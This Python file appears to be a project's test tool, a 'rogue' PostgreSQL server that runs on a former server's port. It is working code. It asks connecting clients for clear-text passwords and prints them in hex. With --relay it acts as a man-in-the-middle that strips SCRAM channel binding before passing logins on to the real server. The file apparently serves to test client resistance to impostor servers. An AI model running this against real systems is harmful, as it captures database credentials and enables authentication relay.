# SPDX-FileCopyrightText: mala.hpc_db contributors
# SPDX-License-Identifier: GPL-3.0-or-later
"""A rogue server on a former server's port: python rogue.py PORT [CERTIFICATE KEY] [--relay=HOST:PORT | --silent].

It speaks enough of PostgreSQL's protocol to ask each client for its password in clear text, and prints the reply to
that in hexadecimal digits. With a certificate it offers TLS. With --relay it passes the login on to the real server
instead, and prints whether the server accepted it. With --silent it never answers.
"""

import argparse
import socket
import ssl
import struct
import threading

SSL_REQUEST = 80877103
CLEAR_TEXT_PASSWORD = struct.pack("!cII", b"R", 8, 3)
# This mechanism binds a login to one TLS connection; a client that does not require it logs in without.
CHANNEL_BINDING = b"SCRAM-SHA-256-PLUS\0"
LET_IN, MECHANISMS, LAST_PROOF = 0, 10, 12
_one_at_a_time = threading.Lock()


def say(line: str) -> None:
    """Print a line in one piece, even while other threads print."""
    with _one_at_a_time:
        print(line, flush=True)


def read(peer: socket.socket, length: int) -> bytes:
    """Read ``length`` bytes, or fewer at the end of the stream."""
    got = b""
    while len(got) < length:
        more = peer.recv(length - len(got))
        if not more:
            break
        got += more
    return got


def packet(client: socket.socket) -> bytes:
    """Read a packet without a type byte, as at the start of a connection."""
    length = read(client, 4)
    return read(client, struct.unpack("!I", length)[0] - 4) if len(length) == 4 else b""


def framed(kind: bytes, body: bytes) -> bytes:
    """Return a packet; ``kind`` is empty for the first packet of a connection."""
    return kind + struct.pack("!I", len(body) + 4) + body


def connect(address: str) -> socket.socket:
    """Connect to the real server, with TLS if it offers that."""
    host, port = address.rsplit(":", 1)
    server = socket.create_connection((host, int(port)), timeout=5)
    server.sendall(framed(b"", struct.pack("!I", SSL_REQUEST)))
    if read(server, 1) != b"S":
        return server
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    return context.wrap_socket(server)


def relay(client: socket.socket, start: bytes, address: str) -> bytes:
    """Pass the login on to the real server, without channel binding; return whether the server accepted it."""
    with connect(address) as server:
        server.sendall(framed(b"", start))
        while True:
            kind = read(server, 1)
            body = packet(server)
            code = struct.unpack("!I", body[:4])[0] if kind == b"R" else None
            if code == MECHANISMS:
                body = body.replace(CHANNEL_BINDING, b"")
            client.sendall(framed(kind, body))
            if code == LET_IN:
                return b"let in"
            if code is None:
                return b""
            if code != LAST_PROOF:
                answer = client.recv(10000)
                if not answer:
                    return b""
                server.sendall(answer)


def trick(client: socket.socket, tls: "ssl.SSLContext | None", relay_to: str) -> bytes:
    """Ask for the password, or pass the login on; return the result."""
    start = packet(client)
    while len(start) == 4 and struct.unpack("!I", start)[0] != 196608:  # the client asks for TLS or GSS
        wants_tls = struct.unpack("!I", start)[0] == SSL_REQUEST
        client.sendall(b"S" if wants_tls and tls else b"N")
        if wants_tls and tls:
            client = tls.wrap_socket(client, server_side=True)
        start = packet(client)
    if not start:
        return b""
    if relay_to:
        return relay(client, start, relay_to)
    client.sendall(CLEAR_TEXT_PASSWORD)
    return client.recv(1000)


def serve(client: socket.socket, tls: "ssl.SSLContext | None", relay_to: str, silent: bool) -> None:
    """Serve one client, and print the secrets it gave away."""
    try:
        client.settimeout(None if silent else 5)
        while silent and client.recv(1000):
            pass
        got = trick(client, tls, relay_to)
    except OSError:
        got = b""
    say(f"got {got.hex()}")
    client.close()


def main() -> None:
    """Serve until killed."""
    parser = argparse.ArgumentParser()
    parser.add_argument("port", type=int)
    parser.add_argument("certificate", nargs="*")
    parser.add_argument("--relay", default="")
    parser.add_argument("--silent", action="store_true")
    given = parser.parse_args()
    tls = None
    if given.certificate:
        tls = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        tls.load_cert_chain(*given.certificate)
    with socket.create_server(("", given.port), backlog=100) as server:
        say("listens")
        while True:
            client = server.accept()[0]
            say("accepted")
            threading.Thread(target=serve, args=(client, tls, given.relay, given.silent), daemon=True).start()


if __name__ == "__main__":
    main()
